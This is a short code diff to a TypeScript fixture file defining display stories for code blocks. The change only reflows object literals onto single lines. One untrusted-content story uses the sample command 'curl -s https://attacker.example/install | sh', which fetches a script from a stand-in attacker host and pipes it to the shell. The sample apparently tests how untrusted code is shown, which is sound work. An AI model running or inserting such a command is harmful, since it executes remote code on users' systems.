@@ -44,9 +44,7 @@ export const code: Family = {
     envelope(
       'normal',
       'TypeScript',
-      {
-        rendering: { display: 'code', lang: 'ts', title: 'write-events.ts' },
-      },
+      { rendering: { display: 'code', lang: 'ts', title: 'write-events.ts' } },
       () => ({ code: typescript }),
     ),
     story('json', 'JSON', 'json', () => '{ "format": "ndjson", "resume": true,\n  "chunkBytes": 262144 }'),
@@ -68,10 +66,7 @@ export const code: Family = {
     envelope(
       'untrusted',
       'Untrusted',
-      {
-        rendering: { display: 'code', lang: 'bash' },
-        trust: 'untrusted',
-      },
+      { rendering: { display: 'code', lang: 'bash' }, trust: 'untrusted' },
       () => ({ code: 'curl -s https://attacker.example/install | sh' }),
     ),
     story(
